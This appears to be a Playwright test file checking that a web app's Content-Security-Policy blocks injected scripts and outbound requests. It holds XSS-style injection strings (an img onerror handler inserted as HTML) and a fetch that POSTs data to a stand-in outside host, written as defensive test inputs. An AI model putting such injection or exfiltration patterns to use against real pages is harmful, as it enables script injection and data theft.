import { expect, test } from './fixtures';

/**
 * The Content-Security-Policy of the built app as `vite preview` serves it (header and <meta>): injected
 * script does not run, and the page cannot send anything to a host the policy does not name. Every other
 * browser test fails on any violation (e2e/fixtures.ts), so the policy also holds for loading, scoring,
 * converting, evaluating and exporting.
 */
test.describe('Content-Security-Policy', () => {
  test.skip(({ webgpu }) => webgpu, 'the policy does not depend on the device (every webgpu test still fails on a violation): covered in the wasm project');
  test.use({ cspViolationsExpected: true });

  test('is sent with the page and its scripts, next to cross-origin isolation', async ({ page, request }) => {
    const response = await page.goto('/');
    const headers = response!.headers();
    expect(headers['content-security-policy']).toMatch(/^default-src 'self'; script-src 'self' 'wasm-unsafe-eval' blob:;/);
    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(headers['cross-origin-embedder-policy']).toBe('require-corp');
    expect(await page.evaluate(() => self.crossOriginIsolated)).toBe(true);
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(meta).toMatch(/^default-src 'self';/);
    const bundle = await page.evaluate(() => [...document.querySelectorAll('script[src]')].map((s) => (s as HTMLScriptElement).src)[0]!);
    expect((await request.get(bundle)).headers()['content-security-policy']).toBe(headers['content-security-policy']);
  });

  test('an inline <script> injected into the page does not run', async ({ page }) => {
    await page.goto('/');
    const ran = await page.evaluate(async () => {
      const attempts = [
        () => {
          const script = document.createElement('script');
          script.textContent = 'window.__injected = true';
          document.body.append(script);
        },
        () => {
          const image = document.createElement('img');
          image.setAttribute('onerror', 'window.__injected = true');
          image.src = 'data:,not-an-image';
          document.body.append(image);
        },
        () => {
          document.body.insertAdjacentHTML('beforeend', '<img src="data:,x" onerror="window.__injected = true">');
        },
      ];
      // Trusted Types refuses the strings (each attempt throws); were one let through, script-src would refuse to run it.
      let refused = 0;
      for (const attempt of attempts) {
        try {
          attempt();
        } catch {
          refused++;
        }
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
      return { injected: (window as unknown as { __injected?: boolean }).__injected === true, refused };
    });
    expect(ran).toEqual({ injected: false, refused: 3 });
  });

  test('a fetch to a host outside connect-src is blocked', async ({ page, cspViolations }) => {
    await page.goto('/');
    const outcome = await page.evaluate(async () => {
      const blocked = new Promise<string>((resolve) => document.addEventListener('securitypolicyviolation', (e) => resolve(`${e.violatedDirective} ${e.blockedURI}`), { once: true }));
      const fetched = await fetch('https://collector.example.net/ideas', { method: 'POST', body: 'an idea' }).then(
        () => 'sent',
        (error: Error) => `failed: ${error.message}`,
      );
      return { fetched, violation: await blocked };
    });
    expect(outcome.fetched).toMatch(/^failed/);
    expect(outcome.violation).toBe('connect-src https://collector.example.net/ideas');
    expect(cspViolations.join('\n')).toMatch(/connect-src/);
  });
});
